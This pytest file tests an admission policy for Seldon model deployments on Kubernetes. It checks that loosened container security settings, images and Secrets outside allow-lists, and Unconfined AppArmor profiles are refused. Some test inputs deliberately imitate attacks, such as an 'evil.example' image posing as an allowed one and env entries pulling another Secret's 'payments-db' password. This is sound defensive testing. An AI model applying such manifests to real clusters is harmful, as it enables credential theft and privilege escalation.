    operator_cluster.apply(rendered, PLURAL)  # as the operator renders it again


@pytest.mark.parametrize("loosened", LOOSENED)
@pytest.mark.parametrize("pod_context", POD_CONTEXTS)
def test_a_container_without_its_own_restricted_settings_is_refused(
        policy: str, pod_context: str, loosened: str, admin: Kubectl,
        operator_cluster: KubeCluster) -> None:
    """The pod's runAsNonRoot and seccomp profile (as rendered, absent, or Seldon's runAsUser
    alone) do not stand in for a container's: Seldon replaces the pod's, so after it such a
    container would run as its image's user (root, for many) with no seccomp profile. Every
    container is held to it: the runtime container, a second one and an init container (which
    is refused by this rule before the rule on the pod's fields)."""
    owner = _owner(admin, f"loose-{policy}")
    rendered = _pod_context(_render(owner), pod_context)
    runtime = copy.deepcopy(rendered)
    LOOSENED[loosened](_container(runtime))
    sidecar = _sidecar(rendered, DEFAULT_IMAGE)
    LOOSENED[loosened](_pod(sidecar)["containers"][-1])
    init = copy.deepcopy(rendered)
    _pod(init)["initContainers"] = [
        {k: copy.deepcopy(v) for k, v in _container(init).items() if k != "lifecycle"}
        | {"name": "setup"}]
    LOOSENED[loosened](_pod(init)["initContainers"][0])
    for manifest in (runtime, sidecar, init):
        _refused(operator_cluster, manifest, RESTRICTED)


def test_the_chart_holds_images_and_service_accounts_to_the_allow_lists(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    owner = _owner(admin, f"listed-{policy}")
    # Within the lists, and the operator's default image: admitted (a server-side dry run).
    for manifest in (_render(owner), _render(owner, image=CANARY_IMAGE),
                     _render(owner, service_account_name=None)):
        operator_cluster.apply(manifest, PLURAL)
        stored = admin.get("seldondeployment", owner.name, NAMESPACE)
        assert _container(stored)["image"] == _container(manifest)["image"]
    outside = {
        "an image outside the list": (_render(owner, image="docker.io/library/busybox"), IMAGES),
        # A whole match, as the operator's: the allowed pattern inside a longer name is not.
        "an allowed image as a suffix": (_render(owner, image=f"evil.example/{CANARY_IMAGE}"),
                                         IMAGES),
        "a service account outside the list": (_render(owner, service_account_name="deployer"),
                                               ACCOUNTS),
    }
    for what, (manifest, message) in outside.items():
        if policy == "chart":
            _refused(operator_cluster, manifest, message)
        else:  # the plain manifests have no allow-list: the shape alone is judged
            operator_cluster.apply(manifest, PLURAL)
            stored = admin.get("seldondeployment", owner.name, NAMESPACE)
            assert _pod(stored) == _pod(manifest), what
    # A second container is refused by both, by its name (one container, named as rendered)
    # before its image is judged.
    _refused(operator_cluster, _sidecar(_render(owner), "busybox"), NAMES)


def _secret_ref(manifest: dict[str, Any], env: str, secret: str) -> dict[str, Any]:
    """``manifest`` with its last predictor's ``env`` entry taken from ``secret`` instead."""
    changed = copy.deepcopy(manifest)
    entry = next(e for e in _container(changed)["env"] if e["name"] == env)
    entry["valueFrom"]["secretKeyRef"]["name"] = secret
    return changed


def _secret_volume(manifest: dict[str, Any], secret: str) -> dict[str, Any]:
    """``manifest`` with its last predictor's report token volume mounting ``secret``'s key."""
    changed = copy.deepcopy(manifest)
    next(v for v in _pod(changed)["volumes"] if "secret" in v)["secret"]["secretName"] = secret
    return changed


def test_the_chart_holds_secret_references_to_the_decision_key_and_rbac_secret_names(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    owner = _owner(admin, f"keyed-{policy}")
    # What the operator renders: its MLflow credentials (env) and report token (a volume of its
    # one key), both in rbac.secretNames as the operator could read nothing else, and its own
    # decision key (env).
    rendered = _render(owner)
    refs = {e["valueFrom"]["secretKeyRef"]["name"] for e in _container(rendered)["env"]
            if "secretKeyRef" in e.get("valueFrom", {})}
    volumes = {v["secret"]["secretName"] for v in _pod(rendered)["volumes"] if "secret" in v}
    assert refs == {"mlflow-credentials", naming.decision_key_secret(owner.name)}
    assert volumes == {"report-senders"} and refs | volumes == {
        *SECRET_NAMES, naming.decision_key_secret(owner.name)}
    operator_cluster.apply(rendered, PLURAL)
    sidecar = _sidecar(rendered, DEFAULT_IMAGE)
    _pod(sidecar)["containers"][-1]["env"] = [
        {"name": "X", "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}}}]
    # A second container is refused by both, by its name, before its env is judged.
    _refused(operator_cluster, sidecar, NAMES)
    outside = {
        "credentials from another Secret": _render(
            owner, credential_env=(("MLFLOW_TRACKING_TOKEN", "payments-db", "password"),)),
        "another model's decision key": _secret_ref(rendered, "UPLIFT_DECISION_KEY",
                                                    "other-decision-key"),
        "the report token from another Secret": _render(
            owner, report_token=("payments-db", "password")),
        "another model's decision key as a volume": _secret_volume(
            rendered, "other-decision-key"),
        # A pull Secret (allowed.imagePullSecrets) is for the kubelet's pulls alone.
        "a pull Secret as a volume": _secret_volume(rendered, PULL_SECRET_NAMES[0]),
        "a pull Secret as env": _secret_ref(rendered, "MLFLOW_TRACKING_TOKEN",
                                            PULL_SECRET_NAMES[0]),
    }
    for what, manifest in outside.items():
        if policy == "chart":
            _refused(operator_cluster, manifest, SECRET_REFS)
        else:  # the plain manifests know no Secret names: any Secret of the namespace passes
            operator_cluster.apply(manifest, PLURAL)
            stored = admin.get("seldondeployment", owner.name, NAMESPACE)
            assert _pod(stored) == _pod(manifest), what


def test_the_runtime_credentials_are_admitted_as_a_secret_of_rbac_secret_names(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """spec.serving.runtimeCredentials gives the pods a Secret of their own in the operator's
    place: admitted as one of rbac.secretNames (the operator reads it, to check it), on create
    and on update from the operator's credentials; the policy admits no other name for it."""
    owner = _owner(admin, f"reader-{policy}")
    operator_cluster.apply(_render(owner), PLURAL)  # model.credentials' Secret, as before
    reader = _render(owner, credential_env=READER_ENV)
    operator_cluster.apply(reader, PLURAL)  # an edit of it rolls the pods onto the reader's
    stored = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert _pod(stored) == _pod(reader)
    assert {e["valueFrom"]["secretKeyRef"]["name"] for e in _container(stored)["env"]
            if "secretKeyRef" in e.get("valueFrom", {})} == {
        RUNTIME_SECRET, naming.decision_key_secret(owner.name)}
    outside = _render(owner, credential_env=(
        ("MLFLOW_TRACKING_USERNAME", "mlflow-admin", "username"),
        ("MLFLOW_TRACKING_PASSWORD", "mlflow-admin", "password")))
    if policy == "chart":
        _refused(operator_cluster, outside, SECRET_REFS)
    else:  # the plain manifests know no Secret names: any Secret of the namespace passes
        operator_cluster.apply(outside, PLURAL)


def _placed(owner: naming.Owner, split: TrafficSplit = CANARY,
            **changes: Any) -> dict[str, Any]:
    """The graph of a model with PLACEMENT (its keys as ``changes`` say) in every predictor."""
    return _render(owner, split, placement={**PLACEMENT, **changes})


def test_the_models_placement_is_admitted_on_create_and_update(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """spec.serving's nodeSelector, tolerations (by key), imagePullSecrets (within the chart's
    allowed.imagePullSecrets) and priorityClassName, rendered into every predictor: admitted when the
    graph is created, when a canary is added and when the placement is edited; and the graph
    rendered again without them."""
    owner = _owner(admin, f"placed-{policy}")
    operator_cluster.apply(_placed(owner, TrafficSplit("3")), PLURAL)
    operator_cluster.apply(_placed(owner), PLURAL)
    stored = admin.get("seldondeployment", owner.name, NAMESPACE)
    assert len(stored["spec"]["predictors"]) == 2
    for predictor in (0, 1):
        assert {k: _pod(stored, predictor).get(k) for k in PLACEMENT} == PLACEMENT
    # An edit: another pool, a toleration by key alone for every effect, another class.
    edited = _placed(owner, nodeSelector={"node.kubernetes.io/pool": "inference-b",
                                          "topology.kubernetes.io/zone": "eu-west-1a"},
                     tolerations=[{"key": "nvidia.com/gpu", "operator": "Exists"}],
                     priorityClassName="inference-low")
    operator_cluster.apply(edited, PLURAL)
    stored = admin.get("seldondeployment", owner.name, NAMESPACE)
    for predictor in (0, 1):
        assert _pod(stored, predictor)["tolerations"] == [
            {"key": "nvidia.com/gpu", "operator": "Exists"}]
        assert _pod(stored, predictor)["priorityClassName"] == "inference-low"
    operator_cluster.apply(_render(owner), PLURAL)  # as the operator renders it without


def test_the_chart_holds_image_pull_secrets_to_their_own_list(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """With allowed.imagePullSecrets set, the kubelet's pulls (by the node's authority, as its
    secret volumes) are held to those names: a pull Secret outside them, in any predictor, is
    refused by the chart's policy, one of rbac.secretNames (the Secrets the operator reads)
    included; the manifests know no Secret names and admit it."""
    owner = _owner(admin, f"pulled-{policy}")
    operator_cluster.apply(_placed(owner), PLURAL)  # registry-pull: allowed.imagePullSecrets
    stable_outside = _placed(owner)
    _pod(stable_outside, 0)["imagePullSecrets"] = [{"name": "payments-registry"}]
    outside = {
        "a pull Secret outside allowed.imagePullSecrets": _placed(
            owner, imagePullSecrets=[{"name": "payments-registry"}]),
        "a Secret of rbac.secretNames as a pull Secret": _placed(
            owner, imagePullSecrets=[{"name": SECRET_NAMES[0]}]),
        "a second pull Secret outside them": _placed(
            owner, imagePullSecrets=[{"name": "registry-pull"}, {"name": "payments-registry"}]),
        "the model's decision key as a pull Secret": _placed(
            owner, imagePullSecrets=[{"name": naming.decision_key_secret(owner.name)}]),
        "the stable's pull Secret outside them": stable_outside,
    }
    for what, manifest in outside.items():
        if policy == "chart":
            _refused(operator_cluster, manifest, PULL_SECRETS)
        else:  # the plain manifests know no Secret names: any Secret of the namespace passes
            operator_cluster.apply(manifest, PLURAL)
            stored = admin.get("seldondeployment", owner.name, NAMESPACE)
            assert _pod(stored) == _pod(manifest), what
            assert _pod(stored, 0) == _pod(manifest, 0), what


def _sidecar(manifest: dict[str, Any], image: str) -> dict[str, Any]:
    """``manifest`` with a second container in its last predictor's pod (the operator renders
    none: refused by the rule on names, the last of the shape's, after every container is held
    to the rules before it; an init container is refused outright)."""
    changed = copy.deepcopy(manifest)
    _pod(changed)["containers"].append({**copy.deepcopy(_container(changed)), "name": "sidecar",
                                        "image": image})
    return changed


def test_probes_and_hooks_on_the_pods_own_address_are_admitted(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """Only a probe's or hook's host is refused: without one the kubelet checks the pod's own
    IP, and an exec handler runs in the container as its command does (Seldon adds such probes
    itself to a container that has none)."""
    owner = _owner(admin, f"probed-{policy}")
    manifest = _render(owner)
    _container(manifest).update(
        readinessProbe={"httpGet": {"path": "/v2/health/ready", "port": 9000}},
        livenessProbe={"tcpSocket": {"port": 9000}},
        startupProbe={"exec": {"command": ["python", "-c", "pass"]}})
    operator_cluster.apply(manifest, PLURAL)
    stored = _container(admin.get("seldondeployment", owner.name, NAMESPACE))
    assert stored["readinessProbe"]["httpGet"]["port"] == 9000
    assert stored["livenessProbe"]["tcpSocket"] == {"port": 9000}
    assert stored["lifecycle"] == _container(manifest)["lifecycle"]  # the drain hook: exec


#: Where Seldon's v1 schema describes a componentSpec's pod spec.
POD_SCHEMA = ("/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/predictors/"
              "items/properties/componentSpecs/items/properties/spec/properties")
APPARMOR_SCHEMAS = (f"{POD_SCHEMA}/securityContext/properties/appArmorProfile",
                    f"{POD_SCHEMA}/containers/items/properties/securityContext/properties/"
                    "appArmorProfile")


def _apparmor(manifest: dict[str, Any], pod: str | None = None,
              container: str | None = None) -> dict[str, Any]:
    """``manifest`` with the AppArmor profile types given, on its last predictor's pod and its
    runtime container."""
    changed = copy.deepcopy(manifest)
    if pod is not None:
        _pod(changed)["securityContext"]["appArmorProfile"] = {"type": pod}
    if container is not None:
        _container(changed)["securityContext"]["appArmorProfile"] = {"type": container}
    return changed


def _apparmor_kept(admin: Kubectl, manifest: dict[str, Any]) -> bool:
    """Whether the SeldonDeployment schema keeps a pod's appArmorProfile (the administrator's
    server-side dry run: strict field validation refuses an undeclared field)."""
    probe = _apparmor(manifest, pod="RuntimeDefault")
    probe["metadata"]["name"] = "apparmor-schema-probe"  # never stored: no name taken
    attempt = admin.run("create", "--dry-run=server", "-o", "json", "-f", "-", check=False,
                        input=json.dumps(probe))
    return attempt.returncode == 0 and "appArmorProfile" in json.dumps(
        _pod(json.loads(attempt.stdout)))


@contextlib.contextmanager
def _schema_with_apparmor(admin: Kubectl, manifest: dict[str, Any]) -> Iterator[None]:
    """Seldon's CRD as generated from Kubernetes >= 1.30 types would be: appArmorProfile in a
    componentSpec's pod and container securityContext (1.17.1's has neither); put back after."""
    if not seldon_crd(quiet=True)[1]:  # the stand-in's open schema keeps every field
        yield
        return
    field = {"type": "object", "required": ["type"], "properties": {
        "type": {"type": "string"}, "localhostProfile": {"type": "string"}}}
    admin.run("patch", "crd", CRD_NAME, "--type=json", "-p", json.dumps(
        [{"op": "test", "path": "/spec/versions/0/name", "value": "v1"}]
        + [{"op": "add", "path": path, "value": field} for path in APPARMOR_SCHEMAS]))
    try:
        admin.wait_for(lambda: _apparmor_kept(admin, manifest), timeout=30,
                       what="appArmorProfile in the SeldonDeployment schema")
        yield
    finally:
        admin.run("patch", "crd", CRD_NAME, "--type=json", "-p", json.dumps(
            [{"op": "remove", "path": path} for path in APPARMOR_SCHEMAS]))
        admin.wait_for(lambda: not _apparmor_kept(admin, manifest), timeout=30,
                       what="appArmorProfile out of the SeldonDeployment schema")


def test_an_unconfined_apparmor_profile_is_refused(
        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
    """As seccomp's: a profile RuntimeDefault or Localhost, or none (the runtime's default),
    never Unconfined, on the pod or a container. Seldon 1.17.1's CRD predates the field, so its
    schema keeps it out before admission; the rule holds once a CRD carries it. The legacy
    annotations cannot reach the pods (the predictor annotations are refused)."""
    owner = _owner(admin, f"confined-{policy}")
    rendered = _render(owner)
    if seldon_crd(quiet=True)[1]:
        with pytest.raises(KubeError) as undeclared:
            operator_cluster.apply(_apparmor(rendered, pod="Unconfined"), PLURAL)
        assert "appArmorProfile: field not declared in schema" in str(undeclared.value)
        assert DENIED not in str(undeclared.value)
    with _schema_with_apparmor(admin, rendered):
        _refused(operator_cluster, _apparmor(rendered, pod="Unconfined"), POD)
        _refused(operator_cluster, _apparmor(rendered, container="Unconfined"), CONTAINERS)
        confined = _apparmor(rendered, pod="RuntimeDefault", container="Localhost")
        _container(confined)["securityContext"]["appArmorProfile"]["localhostProfile"] = "uplift"
        operator_cluster.apply(confined, PLURAL)
        stored = admin.get("seldondeployment", owner.name, NAMESPACE)
        assert _pod(stored)["securityContext"]["appArmorProfile"] == {"type": "RuntimeDefault"}
        assert _container(stored)["securityContext"]["appArmorProfile"] == {
            "type": "Localhost", "localhostProfile": "uplift"}
        operator_cluster.apply(rendered, PLURAL)  # as the operator renders it again


def test_nobody_else_is_judged(policy: str, admin: Kubectl) -> None:
    owner = naming.Owner(name=f"admins-{policy}", namespace=NAMESPACE, uid="0" * 8)
    manifest = _change(_change(_render(owner), "a privileged container"), "no owner")
    admin.apply(manifest)
    admin.run("delete", "seldondeployment", owner.name, "-n", NAMESPACE)
